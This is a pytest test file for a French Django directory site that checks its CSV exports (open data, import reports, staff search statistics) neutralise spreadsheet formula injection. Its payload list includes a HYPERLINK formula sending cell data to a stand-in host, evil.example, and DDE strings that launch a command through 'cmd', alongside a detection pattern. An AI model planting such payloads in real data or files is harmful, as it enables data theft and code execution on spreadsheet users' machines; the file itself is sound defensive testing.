"""CSV injection (OWASP): text a stranger typed must not open as a formula in a spreadsheet.

Every CSV the site writes is attacked the way it is fed: a listing's fields for the open
data, a partner's list for the import report, a visitor's search for the staff figures.
Numbers the site writes itself (a negative longitude, counts) stay numbers.
"""

import csv
import io
import re

import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile

from directory.models import ImportRun, SearchDay
from directory.roles import EDITORS, MODERATORS

pytestmark = pytest.mark.django_db

# What spreadsheet programs (Excel, LibreOffice, Google Sheets) evaluate or act on.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",  # fullwidth equals sign
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "'=1+1",  # an apostrophe the attacker put there himself
]
# A cell a spreadsheet would read as a formula (or act on): what must never be written.
DANGEROUS = re.compile(
    r"^(?:[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]|\s+[=+\-@\uff1d\uff0b\uff0d\uff20])"
)


# A plain number (optional sign, decimal point or comma): a value, not a formula.
NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?$")


def dangerous_cells(text: str, delimiter=";") -> list[str]:
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter)
    return [
        cell for row in rows for cell in row if DANGEROUS.match(cell) and not NUMBER.match(cell)
    ]


def test_the_rule_neutralises_formulas_and_keeps_numbers():
    from directory.spreadsheet import safe_cell

    for payload in PAYLOADS:
        assert not DANGEROUS.match(safe_cell(payload)), f"{payload!r} left as a formula"
        assert safe_cell(payload).startswith("'"), f"{payload!r} not prefixed with '"
    # Numbers are numbers, whether written as numbers or as text with a decimal comma.
    for number in (-0.35, -12, 0, 3.5e-7, "-0,350000", "-1.5", "+33254112233", "12"):
        assert safe_cell(number) == number, f"the number {number!r} was changed"
    for text in ("Ferme du Moulin", "", "02 54 11 22 33", "50% bio", "a=b"):
        assert safe_cell(text) == text, f"harmless text {text!r} was changed"


@pytest.fixture
def listings_with_payloads(make_actor, territories):
    actors = []
    for n, payload in enumerate(PAYLOADS):
        actors.append(
            make_actor(
                lat=47.4,
                lon=-0.35,  # west of Greenwich: a negative longitude in the file
                name=payload,
                products=payload,
                description=payload,
                phone=payload[:20],  # the column holds 20 characters
                address=f"{n} {payload}",
                website="https://ferme.example/",
            )
        )
    return actors


def test_open_data_csv_download(client, settings, tmp_path, listings_with_payloads):
    settings.TOUTPRES_OPEN_DATA = {**settings.TOUTPRES_OPEN_DATA, "DIR": tmp_path / "od"}
    response = client.get("/donnees/tout-pres.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    bad = dangerous_cells(text)
    assert not bad, f"formula cells in the open-data CSV: {bad}"
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))
    ours = [r for r in rows if r["slug"] in {a.slug for a in listings_with_payloads}]
    assert len(ours) == len(PAYLOADS)
    for row in ours:
        assert float(row["longitude"]) == pytest.approx(-0.35), (
            f"the longitude is no longer a number: {row['longitude']!r}"
        )
        assert row["name"].startswith("'"), f"name not neutralised: {row['name']!r}"


def test_open_data_csv_reloads_the_original_text(settings, tmp_path, listings_with_payloads):
    """The quote is an export artefact: reloading the file gives the listing's own text."""
    from directory.opendata import reimport

    settings.TOUTPRES_OPEN_DATA = {**settings.TOUTPRES_OPEN_DATA, "DIR": tmp_path / "od"}
    from django.core.management import call_command

    call_command("export_opendata", "--format", "csv", "--no-progress", stdout=io.StringIO())
    rows = reimport.read(tmp_path / "od" / "tout-pres.csv", ";")
    by_slug = {r["slug"]: r for r in rows}
    for actor in listings_with_payloads:
        assert by_slug[actor.slug]["name"] == actor.name, "reloading changed the name"


def _moderator(django_user_model):
    user = django_user_model.objects.create_user("modo", "modo@example.org", "pw")
    user.groups.add(Group.objects.get(name=MODERATORS))
    return user


def test_import_report_download(client, territories, django_user_model):
    client.force_login(_moderator(django_user_model))
    lines = ["Identifiant;Nom;Type;Commune;Code postal;Téléphone"]
    for n, payload in enumerate(PAYLOADS):
        cell = '"' + payload.replace('"', '""') + '"'
        lines.append(f"{cell};{cell};Producteur;Blois;41000;{cell}")
        lines.append(f"K-{n};{cell};Producteur;Blois;41000;")
    content = ("\r\n".join(lines) + "\r\n").encode("utf-8")
    response = client.post(
        "/staff/imports/",
        {
            "file": SimpleUploadedFile("liste.csv", content, "text/csv"),
            "name": "Liste piégée",
            "licence": "Licence Ouverte 2.0",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    run = ImportRun.objects.get()
    form = {f"col_{i}": run.mapping["columns"].get(h, "") for i, h in enumerate(run.headers)}
    assert client.post(f"/staff/imports/{run.pk}/colonnes/", form).status_code == 302
    state = client.post(f"/staff/imports/{run.pk}/etape/", HTTP_ACCEPT="application/json").json()
    assert state["status"] == "analysed", state
    report = client.get(f"/staff/imports/{run.pk}/rapport.csv")
    text = b"".join(report.streaming_content).decode("utf-8")
    assert "HYPERLINK" in text, "the payload did not reach the report"
    bad = dangerous_cells(text)
    assert not bad, f"formula cells in the import report: {bad}"


def test_staff_figures_csv_of_visitors_searches(client, territories, django_user_model):
    # Plus payloads that hide a formula after a comma, for a spreadsheet splitting on ",".
    for payload in [*PAYLOADS, "Ferme,=1+1,", "x,=cmd|' /C calc'!A0,"]:
        client.get("/", {"where": "Blois", "q": payload}, HTTP_USER_AGENT="Mozilla/5.0 Test")
    assert SearchDay.objects.exists(), "the searches were not counted"
    editor = django_user_model.objects.create_user("redac", "redac@example.org", "pw")
    editor.groups.add(Group.objects.get(name=EDITORS))
    client.force_login(editor)
    for name in ("recherches-produits", "recherches-sans-resultat", "recherches-lieux"):
        response = client.get(f"/staff/chiffres/{name}.csv")
        assert response.status_code == 200
        text = response.content.decode("utf-8")
        for delimiter in (";", ",", "\t"):
            bad = dangerous_cells(text, delimiter)
            assert not bad, f"formula cells in {name}.csv split on {delimiter!r}: {bad}"
    counts = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))[1:]
    assert all(row[-1].isdigit() for row in counts), "counts must stay plain numbers"
